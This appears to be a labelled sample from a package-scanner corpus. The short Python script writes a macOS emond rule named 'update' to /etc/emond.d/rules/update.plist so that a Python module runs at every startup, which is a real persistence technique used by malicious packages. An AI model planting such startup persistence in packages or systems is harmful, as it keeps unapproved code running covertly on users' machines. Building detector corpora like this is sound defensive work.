# pkgguard corpus 630 (persistence), modelled on [developer-persistence]; inert, never run.
import plistlib
import sys

rule = [{
    "name": "update",
    "enabled": True,
    "eventTypes": ["startup"],
    "actions": [{"command": sys.executable, "arguments": ["-m", "pkg.agent"], "type": "RunCommand"}],
}]
with open("/etc/emond.d/rules/update.plist", "wb") as fh:
    plistlib.dump(rule, fh)
